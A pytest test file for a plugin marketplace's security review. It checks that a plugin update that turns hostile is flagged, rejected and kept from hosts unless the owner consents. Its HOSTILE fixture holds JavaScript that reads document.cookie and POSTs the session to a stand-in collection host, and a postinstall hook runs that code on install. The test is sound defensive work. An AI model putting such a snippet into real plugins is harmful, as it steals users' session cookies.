"""A clean plugin that turns hostile in its update is stopped, and what turned is named."""

import json
from pathlib import Path
from typing import Any

import pytest

from tests.support.plugins import write_plugin
from tests.support.world import World

pytestmark = pytest.mark.journey

PLUGIN = "acme.weather"
CLEAN = """export function Weather({ context }) {
  return context.storage.get('place').then((place) => `Sun over ${place}`);
}
"""
HOSTILE = (
    CLEAN
    + """
export function onTheFirstView() {
  const session = document.cookie;
  fetch('https://collect.example.net/s', { method: 'POST', body: JSON.stringify({ session }) });
}
"""
)


def told(document: dict[str, Any]) -> set[tuple[str, str | None, str]]:
    return {(each["rule"], each["file"], each["message"]) for each in document["findings"]}


def two_releases(folder: Path) -> tuple[Path, Path]:
    """A clean plugin, and its update that turned hostile."""
    clean = write_plugin(folder / "clean", version="1.0.0", added={"dist/index.js": CLEAN})
    hostile = write_plugin(
        folder / "hostile",
        version="1.1.0",
        added={"dist/index.js": HOSTILE},
        package={"scripts": {"postinstall": "node dist/index.js"}},
    )
    return clean, hostile


def test_an_update_that_turned_hostile_is_named_and_never_reaches_a_host(own_world: World, tmp_path: Path):
    world = own_world
    clean, hostile = two_releases(tmp_path)
    world.publish(clean)
    host = world.host("hanna")
    host.does("plugin", "install", PLUGIN, "--yes")

    sent = world.ann.asks("plugin", "publish", hostile, "--wait", "review")
    shown = world.rob.asks("review", "show", sent["submissionId"])
    rules = {each["rule"]: each for each in shown["findings"]}
    turned = rules["release-difference/turned-hostile"]
    assert (turned["file"], turned["monitored"]) == ("dist/index.js", True)
    assert "`cookies`" in turned["message"]
    assert "`collect.example.net`" in turned["message"]
    assert {"data-theft/secret-sent", "release-difference/new-install-script"} <= rules.keys()

    (listed,) = world.rob.asks("review", "list", "--tier", "critical")["submissions"]
    assert listed["id"] == sent["submissionId"]
    assert (shown["risk"]["tier"], shown["difference"]["since"]) == ("critical", "1.0.0")
    before_publishing = json.loads(world.ann.does("plugin", "diff", clean, hostile, "--format", "json").out)
    assert before_publishing == shown["difference"]
    lines = world.rob.does("review", "diff", sent["submissionId"], "dist/index.js").out.splitlines()
    assert "+  const session = document.cookie;" in lines

    here = json.loads(world.ann.tries("plugin", "validate", hostile, "--previous", clean, "--json").out)
    assert told(here) == told(shown)

    world.rob.does(
        *("review", "reject", sent["submissionId"], "-m", "it sends the session away"),
        *("--confirm", "data-theft/secret-sent", "--confirm", "release-difference/turned-hostile"),
    )
    counted = {each["rule"]: each for each in world.rob.asks("rule", "list")["rules"]}
    assert counted["data-theft/secret-sent"]["confirmed"] == 1
    host.does("plugin", "update")
    assert world.version_of(host, PLUGIN) == "1.0.0"


def test_an_update_that_was_approved_in_error_waits_for_the_owner_of_the_host(own_world: World, tmp_path: Path):
    world = own_world
    clean, hostile = two_releases(tmp_path)
    world.publish(clean)
    host = world.host("hanna")
    host.does("plugin", "install", PLUGIN, "--yes")
    world.publish(hostile)  # nobody looked

    (decision,) = host.asks("plugin", "update", "--check")["decisions"]
    assert (decision["offered"], decision["reason"]) == (None, "needs-consent")
    grave = {each["what"] for each in decision["difference"]["changes"] if each["gravity"] == "high"}
    assert grave == {"collect.example.net", "postinstall: node dist/index.js"}

    held = host.tries("plugin", "update")
    assert (held.exit_code, world.version_of(host, PLUGIN)) == (3, "1.0.0")
    assert "different since 1.0.0:" in held.err
    assert "new network host `collect.example.net`" in held.err
    assert "new reach of the code: `cookies`" in held.err

    host.does("plugin", "update", "--yes")
    assert world.version_of(host, PLUGIN) == "1.1.0"
